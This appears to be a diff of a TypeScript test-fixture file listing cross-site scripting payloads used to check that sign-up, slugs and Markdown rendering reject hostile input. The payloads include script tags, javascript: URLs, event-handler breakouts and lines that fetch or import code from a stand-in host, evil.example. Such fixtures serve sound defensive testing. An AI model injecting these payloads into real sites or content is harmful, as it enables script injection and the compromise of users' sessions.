@@ -40,7 +40,7 @@ export const BREAKOUTS = [
   '&quot;&gt;&lt;svg onload=alert(1)&gt; &#34; onfocus=alert(1) autofocus',
   'javascript:alert(1)',
   'data:text/html,<script>alert(1)</script>',
-  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>',
+  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
   '<script>fetch("https://evil.example/")</script>',
   '<script>location = "https://evil.example/"</script>',
   '<script type=module>import "https://evil.example/x.js"</script>',
@@ -71,7 +71,7 @@ export const MARKDOWN = [
   '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
   '[x](vbscript:msgbox(1))',
   '[x](https://ok.example/"onmouseover="alert(1))',
-  "[x](https://ok.example 'a\"onmouseover=alert(1) b=\"')",
+  '[x](https://ok.example \'a"onmouseover=alert(1) b="\')',
   '![x](javascript:alert(1))',
   '![x" onerror="alert(1)](https://ok.example/x.png)',
   '![<img src=x onerror=alert(1)>](https://evil.example/x.png)',
@@ -113,17 +113,27 @@ export function packed(size: number, payloads = ALL, gap = ' '): string[] {
 export const ACCOUNTS = [
   { username: 'script', email: '<img/src=x/onerror=alert(1)>@x' },
   { username: 'constructor', email: '"><svg/onload=alert(1)>@x"onfocus=alert(1)/autofocus' },
-  { username: 'onload-alert-1', email: '</title><script>alert(1)</script>@</strong><script>alert(1)</script>' },
+  {
+    username: 'onload-alert-1',
+    email: '</title><script>alert(1)</script>@</strong><script>alert(1)</script>',
+  },
   { username: 'javascript', email: 'javascript:alert(1)//@x<iframe/src=javascript:alert(1)>' },
   { username: '0-eval-name', email: "'><details/open/ontoggle=alert(1)>@{{alert(1)}}" },
-  { username: 'prototype', email: '--><script>alert(1)</script>@\u2028<svg/onload=alert(1)>' },
+  { username: 'prototype', email: '--><script>alert(1)</script>@\u202e<svg/onload=alert(1)>' },
 ];
 
 /** What the rule of slugs takes. */
-export const SLUGS = ['---', 'javascript-alert-1', 'onerror-alert-1', 'constructor', 'script', '0'.repeat(48)];
+export const SLUGS = [
+  '---',
+  'javascript-alert-1',
+  'onerror-alert-1',
+  'constructor',
+  'script',
+  '0'.repeat(48),
+];
 
 /** What sign-up, slugs and addresses refuse, and forms say again. */
-export const REFUSED = packed(400, BREAKOUTS);
+export const REFUSED = packed(900, BREAKOUTS);
 
 /** Browsers that bowser does not know are called by what stands before the last slash. */
 export const USER_AGENTS = packed(70, BREAKOUTS, '')
